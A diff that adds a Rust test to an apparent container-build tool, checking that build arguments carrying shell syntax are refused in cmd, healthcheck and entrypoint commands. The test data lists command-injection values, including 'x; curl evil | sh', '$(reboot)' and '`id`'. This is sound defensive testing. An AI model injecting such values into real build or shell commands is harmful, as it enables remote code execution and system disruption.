@@ -136,3 +136,54 @@ fn a_build_arg_is_data_in_run_never_shell_source() {
     // The progress output may show the value.
     assert!(stdout(&run).contains("INJ2") || stderr(&run).contains("INJ2"));
 }
+
+#[test]
+fn a_build_arg_with_shell_syntax_cannot_plant_a_command_in_the_image() {
+    let sandbox = Sandbox::new();
+    sandbox.write(
+        "images.kdl",
+        r#"
+        arg NAME="world"
+        stage s {
+            from "oci:tests/fixtures/busybox:1.35.0"
+            cmd "echo hello ${NAME}" shell=#true
+            healthcheck "test -n ${NAME}"
+            entrypoint "/bin/sh" "-c" "exec echo $NAME"
+        }
+        image app { stage s; tags "localhost/app:1"; }
+        "#,
+    );
+    let plan = |value: &str| {
+        sandbox.graphbuild(&[
+            "plan",
+            "images.kdl",
+            "--platform",
+            "linux/amd64",
+            "--arg",
+            &format!("NAME={value}"),
+        ])
+    };
+    // Plain words, spaces included, are substituted as before.
+    assert_success(&plan("brave new world"));
+    // Shell syntax in a value is refused, in every runtime command that reads it.
+    for hostile in ["x; curl evil | sh", "$(reboot)", "`id`", "a\"b", "x'y"] {
+        let output = plan(hostile);
+        assert_eq!(
+            output.status.code(),
+            Some(2),
+            "{hostile}: {}",
+            stderr(&output)
+        );
+        let text = stderr(&output);
+        assert!(
+            text.contains("graphbuild::substitution::unsafe_value")
+                && text.contains("would change this runtime command"),
+            "{hostile}: {text}"
+        );
+        assert_eq!(
+            text.matches("would change this runtime command").count(),
+            3,
+            "cmd, healthcheck and the entrypoint's shell source: {text}"
+        );
+    }
+}
